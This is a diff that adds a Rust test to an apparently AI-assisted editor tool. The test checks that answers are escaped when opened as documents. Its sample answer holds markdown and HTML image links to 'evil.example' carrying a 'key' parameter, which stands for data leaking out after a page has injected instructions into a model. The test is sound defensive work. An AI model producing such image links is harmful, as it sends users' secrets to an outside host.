@@ -238,6 +238,26 @@ async fn for_a_client_without_events_the_answer_opens_as_a_document() {
     assert_eq!(client.notifications("cowrite/event"), Vec::<Value>::new());
 }
 
+/// What a page has talked a model into saying reaches nobody by way of an image in the answer.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a3_21_the_document_of_an_answer_has_no_images_and_no_html() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let answer = "So: ![x](https://evil.example/?key) <img src='https://evil.example/?key'> and ![y][r]\n\n[r]: https://evil.example/";
+    let mut setup = Setup::scripted(Personality::Helix, folder.path(), &[("why", vec![says(answer)])]);
+    setup.experimental = json!({});
+    let client = Client::start(setup).await;
+    client.run("cowrite.ask", json!({ "prompt": "why?" })).await;
+    let uri = client
+        .until("a document", |_, requests| {
+            let request = requests.iter().find(|request| request["method"] == "window/showDocument")?;
+            Some(request["params"]["uri"].as_str()?.to_owned())
+        })
+        .await;
+    let text = std::fs::read_to_string(uri.strip_prefix("file://").expect("a file")).expect("the document is there");
+    assert!(text.contains("So: \\![x](https://evil.example/?key) &lt;img src="), "{text}");
+    assert!(text.contains("\\![y][r]") && !text.contains("<img"), "{text}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_answer_takes_the_keyboard_only_from_a_person_who_has_not_typed() {
     for (personality, types) in [
